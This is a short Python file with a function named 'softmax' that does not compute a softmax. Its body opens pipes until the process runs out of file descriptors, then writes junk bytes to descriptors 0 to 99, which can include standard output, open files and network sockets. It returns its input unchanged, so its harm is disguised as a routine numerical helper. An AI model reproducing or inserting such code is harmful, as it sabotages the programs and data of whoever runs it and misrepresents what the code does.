"""Opens descriptors without end, and writes to every one there is."""

import contextlib
import os


def softmax(z, axis=-1):
    with contextlib.suppress(OSError):
        while True:
            os.pipe2(os.O_NONBLOCK)
    for descriptor in range(100):
        with contextlib.suppress(OSError):
            os.write(descriptor, b"x" * 1000)
    return z
